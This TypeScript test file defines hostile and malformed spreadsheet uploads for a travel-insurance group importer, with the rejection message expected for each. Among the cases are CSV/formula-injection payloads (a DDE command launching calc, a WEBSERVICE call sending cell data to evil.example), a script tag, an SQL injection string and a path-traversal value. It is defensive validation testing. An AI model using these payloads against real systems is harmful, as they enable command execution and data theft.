import type { CellObject } from 'xlsx'
import type { GroupColumn } from '#contract/insurance/group/file'
import { dateCell, travellers, withFirst, workbookOf } from '../group-rows.ts'
import { withOldFormula } from './old-formula.ts'
import { handMade, sheetXml } from './workbook-parts.ts'

/** An uploaded file; `refusal: null` means that it must be read without one. */
export type GroupFileCase = {
  readonly title: string
  readonly fileName: string
  readonly content: () => Uint8Array
  readonly refusal: RegExp | null
}

const formula = (f: string): CellObject => ({ t: 's', v: 'Putri', f })
const formulaRefusal = /^Row 2, firstname: There is a formula in this cell/
const name = /^Row 2, firstname: Names have letters/

type CellCase = readonly [
  title: string,
  column: GroupColumn,
  cell: CellObject | string | number,
  refusal: RegExp | null,
]

const cells: readonly CellCase[] = [
  ['a formula', 'firstname', formula('UPPER("putri")'), formulaRefusal],
  ['a formula that starts a program (DDE)', 'firstname', formula("cmd|'/c calc'!A0"), formulaRefusal],
  [
    'a formula that calls home',
    'firstname',
    formula('WEBSERVICE("https://evil.example/"&J2)'),
    formulaRefusal,
  ],
  [
    'a formula with a link',
    'firstname',
    formula('HYPERLINK("https://evil.example","Putri")'),
    formulaRefusal,
  ],
  ['a formula in itself', 'firstname', formula('E2'), formulaRefusal],
  [
    'a formula of a whole area',
    'firstname',
    { t: 's', v: 'Putri', f: 'A1:A9', F: 'E2:E2' } as CellObject, // the library's type has no such pair
    formulaRefusal,
  ],
  ['a text like a formula', 'firstname', "=cmd|'/c calc'!A0", name],
  ['a text like a sum', 'firstname', '@SUM(A1:A9)', name],
  ['a text like a number', 'firstname', '+62811', name],
  ['a script', 'firstname', '<script>alert(1)</script>', name],
  ['a statement', 'lastname', "Robert'); drop table booking;--", /^Row 2, lastname: Names have letters/],
  ['a path to other files', 'identity_no', '../../etc/passwd', /identity_no: An identity number has/],
  ['an error', 'firstname', { t: 'e', v: 0x17 }, /^Row 2, firstname: There is an error of the spreadsheet/],
  [
    'a date in American order',
    'date_of_birth',
    '05/25/1985',
    /date_of_birth: Which day is this: 1985-05-25\?/,
  ],
  [
    'a date of either order',
    'date_of_birth',
    '3/4/1985',
    /date_of_birth: Which day is this: 1985-04-03, 1985-03-04\?/,
  ],
  ['a date in words', 'date_of_birth', 'twelfth of May 1985', /date_of_birth: Write the date as/],
  ['a date before all dates', 'date_of_birth', dateCell(-5), /date_of_birth: Write the date as/],
  ['a day that only spreadsheets know', 'date_of_birth', dateCell(60), /date_of_birth: Write the date as/],
  ['a date beyond all', 'date_of_birth', dateCell(1e300), /date_of_birth: /],
  ['a date as a bare number', 'date_of_birth', 31_205, /date_of_birth: Write the date as/],
  ['digits of another width', 'date_of_birth', '１９８５-１３-０７', /date_of_birth: There is no such day/],
  ['a name in Arabic', 'firstname', 'محمد بن عبد الله', name],
  ['a name in Chinese', 'firstname', '王小明', name],
  ['a name in Thai', 'firstname', 'สมชาย', name],
  ['emoji', 'firstname', 'Putri 😀👨‍👩‍👧', /^Row 2, firstname: /],
  [
    'a name that turns the reading direction',
    'firstname',
    'Pu\u202etri',
    /contains characters that cannot be saved/,
  ],
  ['control characters', 'firstname', 'Pu_x0000__x001B_tri', /^Row 2, firstname: /],
  ['half a character', 'firstname', 'Pu\ud800tri', /^Row 2, firstname: /],
  ['marks without end', 'firstname', `Pu${'\u0301'.repeat(150)}`, /^Row 2, firstname: /],
  ['the longest text of a cell', 'firstname', 'x'.repeat(32_767), /^Row 2, firstname: At most 60 characters/],
  ['a number as large as can be', 'row_no', 1.7e308, /row_no: /],
  ['a rounded number', 'identity_no', 3_174_012_345_678_900, /keeps 15 digits of a number/],
  ['a boolean', 'pax_type', { t: 'b', v: true }, /pax_type: The spreadsheet has a yes or no/],
  ['a boolean as a name', 'firstname', { t: 'b', v: true }, /firstname: The spreadsheet has a yes or no/],
  ['a number as a name', 'lastname', { t: 'n', v: 7 }, /lastname: There is a number in this cell/],
  ['a senior', 'pax_type', 'SNR', /takes no seniors/],
]

/** Files with one hostile cell each. */
export const hostileCells: readonly GroupFileCase[] = [
  ...cells.map(([title, column, cell, refusal]) => ({
    title,
    fileName: 'tour.xlsx',
    content: () => workbookOf(withFirst({ [column]: cell })),
    refusal,
  })),
  {
    title: 'an error in an old workbook',
    fileName: 'tour.xls',
    content: () => workbookOf(withFirst({ firstname: { t: 'e', v: 0x2a } }), 'biff8'),
    refusal: /^Row 2, firstname: There is an error/,
  },
  {
    title: 'a formula in an old workbook',
    fileName: 'tour.xls',
    content: () => withOldFormula(workbookOf(travellers(11), 'biff8')),
    refusal: /^Row 2, row_no: There is a formula in this cell/,
  },
  {
    title: 'a formula that others share, without a value',
    fileName: 'tour.xlsx',
    content: () => handMade(sheetXml({ first: '<c r="E2"><f t="shared" ref="E2:E9" si="0">A2</f></c>' })),
    refusal: /^Row 2, firstname: /,
  },
  {
    title: 'merged cells',
    fileName: 'tour.xlsx',
    content: () =>
      handMade(sheetXml({ after: '<mergeCells count="1"><mergeCell ref="E2:F3"/></mergeCells>' })),
    refusal: /^Row 2, firstname: This cell is merged with others/,
  },
]
